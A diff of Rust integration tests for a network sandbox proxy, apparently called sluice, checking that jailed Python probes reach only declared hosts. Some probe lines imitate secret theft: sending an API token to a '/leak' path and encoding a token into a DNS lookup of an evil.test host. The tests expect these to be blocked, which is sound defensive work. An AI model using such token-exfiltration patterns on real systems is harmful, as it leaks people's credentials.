@@ -243,6 +243,82 @@ public class Fetch {{
     );
 }
 
+#[test]
+fn a_plain_request_is_named_by_its_host_and_never_swapped() {
+    let dir = tempfile::tempdir().unwrap();
+    let served = dir.path().join("served");
+    std::fs::create_dir(&served).unwrap();
+    std::fs::write(served.join("hello.txt"), "plain-body-from-the-host").unwrap();
+    // A plain HTTP server on the host's loopback (reached only through sluice's decision).
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let mut server = Command::new("python3")
+        .args(["-m", "http.server", "--bind", "127.0.0.1"])
+        .arg(port.to_string())
+        .current_dir(&served)
+        .stderr(std::fs::File::create(dir.path().join("server.log")).unwrap())
+        .spawn()
+        .unwrap();
+    for _ in 0..100 {
+        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    let python = format!(
+        r#"import os, socket
+def get(address, host, path, extra=""):
+    s = socket.create_connection((address, {port}), timeout=5)
+    s.sendall(("GET %s HTTP/1.1\r\nHost: %s:{port}\r\n%sConnection: close\r\n\r\n" % (path, host, extra)).encode())
+    data = b""
+    while True:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    head, _, body = data.partition(b"\r\n\r\n")
+    error = [l for l in head.split(b"\r\n") if l.lower().startswith(b"sluice-error:")]
+    return head.split(b"\r\n")[0].decode() + " " + (error[0].decode() if error else body.decode()[:40])
+print("named", get("other.test", "other.test", "/hello.txt"))
+print("by-host", get("127.0.0.2", "other.test", "/hello.txt"))
+print("placeholder", get("api.test", "api.test", "/leak", "Authorization: Bearer %s\r\n" % os.environ["API_TOKEN"]))
+print("undeclared", get("127.0.0.2", "evil.test", "/"))
+"#
+    );
+    std::fs::write(dir.path().join("plain.py"), python).unwrap();
+    let pki = TestPki::new();
+    let out = run_jailed(
+        dir.path(),
+        &pki.ca_path(),
+        &[],
+        &format!("unset {PROXY_AND_CA}; python3 plain.py"),
+    );
+    server.kill().unwrap();
+    let _ = server.wait();
+    let stdout = text(&out.stdout);
+    assert!(
+        out.status.success(),
+        "stdout: {stdout}\nstderr: {}",
+        text(&out.stderr)
+    );
+    for line in [
+        // (python's http.server answers in HTTP/1.0, passed back as it is.)
+        "named HTTP/1.0 200 OK plain-body-from-the-host",
+        "by-host HTTP/1.0 200 OK plain-body-from-the-host",
+        "placeholder HTTP/1.1 403 Forbidden sluice-error: placeholder-not-granted",
+        "undeclared HTTP/1.1 403 Forbidden sluice-error: host-not-allowed",
+    ] {
+        assert!(stdout.contains(line), "{line:?} not in {stdout}");
+    }
+    // The refused request never reached the server.
+    let log = std::fs::read_to_string(dir.path().join("server.log")).unwrap();
+    assert!(!log.contains("/leak"), "{log}");
+    assert_eq!(log.matches("GET /hello.txt").count(), 2, "{log}");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn nothing_else_leaves_the_jail() {
     let pki = TestPki::new();
@@ -264,15 +340,21 @@ attempt("tcp-host-loopback", lambda: socket.create_connection(("127.0.0.1", {tcp
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"ping", ("127.0.0.1", {udp_port})); print("udp sent")
 attempt("dns-undeclared", lambda: socket.getaddrinfo("exfil-{TOKEN}.evil.test", 443))
 attempt("dns-declared", lambda: socket.getaddrinfo("api.test", 443))
+# A loopback address sluice never handed out: in the clear without a Host, and TLS without a
+# server name. Neither names anything; nothing is dialled.
 c = socket.create_connection(("127.0.0.2", {tcp_port}), timeout=3)
-c.sendall(b"GET / HTTP/1.0\r\nHost: api.test\r\n\r\n")
+c.sendall(b"GET / HTTP/1.0\r\n\r\n")
 c.settimeout(3)
+print("unmapped-plain", c.recv(65536).split(b"\r\n")[0].decode())
+import ssl
+context = ssl.create_default_context()
+context.check_hostname = False
+context.verify_mode = ssl.CERT_NONE
 try:
-    print("unmapped", "closed" if c.recv(1) == b"" else "data")
-except ConnectionResetError:
-    print("unmapped", "closed")
+    context.wrap_socket(socket.create_connection(("127.0.0.2", {tcp_port}), timeout=3))
+    print("unmapped-tls", "reached")
 except OSError as e:
-    print("unmapped", "failed", type(e).__name__)
+    print("unmapped-tls", "closed")
 "#
     );
     std::fs::write(dir.path().join("probe.py"), python).unwrap();
@@ -293,7 +375,8 @@ except OSError as e:
         "udp sent",
         "dns-undeclared failed gaierror",
         "dns-declared reached",
-        "unmapped closed",
+        "unmapped-plain HTTP/1.0 400 Bad Request",
+        "unmapped-tls closed",
     ] {
         assert!(stdout.contains(line), "{line:?} not in {stdout}");
     }
